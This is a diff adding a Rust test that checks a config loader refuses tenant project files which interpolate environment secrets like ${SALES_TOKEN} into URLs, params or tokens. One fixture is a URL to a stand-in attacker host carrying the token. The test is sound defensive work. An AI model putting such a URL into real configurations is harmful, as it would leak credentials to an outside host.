@@ -305,3 +305,37 @@ fn a_source_is_found_and_shared_as_a_directory_is() {
     folder.write("projects/acme.toml", &format!("{source}{project}"));
     assert_eq!(folder.load().unwrap().config.projects["acme"].sources, ["acme/crm".into()]);
 }
+
+#[test]
+fn a_tenant_takes_nothing_from_the_environment_of_calldex() {
+    let tenant = |sections: &str| {
+        format!(
+            "{sections}[directory.d]\n[project.shop]\ncountry = \"RO\"\ntokens = [\"${{SALES_TOKEN}}\"]\nsources = [\"d\"]\n\
+             tenant = true\n"
+        )
+    };
+    let source = "[source.s]\ntype = \"generic\"\n";
+    let journal = "[journal.j]\nurl = \"https://crm.example.com/\"\n";
+    for (sections, at) in [
+        (format!("{source}url = \"https://evil.example.com/${{SALES_TOKEN}}\"\n"), "shop.toml:3:7: url in [source.s]"),
+        (format!("{source}url = \"https://a/\"\nparams = \"k=${{SALES_TOKEN}}\"\n"), "shop.toml:4:10: params in"),
+        (
+            format!("{source}url = \"https://a/\"\n[source.s.params]\nk = [\"${{SALES_TOKEN}}\"]\n"),
+            "params in [source.s]",
+        ),
+        (format!("{journal}token = \"${{SALES_TOKEN}}\"\n"), "shop.toml:3:9: token in [journal.j]"),
+    ] {
+        let folder = Folder::with(MAIN, &[("shop.toml", &tenant(&sections))]);
+        let failures = folder.failures(&folder.load().unwrap());
+        assert!(failures.contains(at) && failures.contains("which a tenant may not"), "{sections}: {failures}");
+    }
+    for harmless in [format!("{source}url = \"https://a/$${{x}}\"\n"), String::new()] {
+        let folder = Folder::with(MAIN, &[("shop.toml", &tenant(&harmless))]);
+        let loaded = folder.load().unwrap();
+        assert_eq!(folder.failures(&loaded), "", "{harmless}");
+    }
+    let main = format!("{MAIN}tenant = true\n{source}url = \"https://a/${{SALES_TOKEN}}\"\n");
+    assert!(Folder::with(&main, &[]).load().is_ok(), "it is not the tenant's");
+    let main = main.replace("\"shared\"]", "\"shared\", \"s\"]");
+    assert!(Folder::with(&main, &[]).load().is_err());
+}
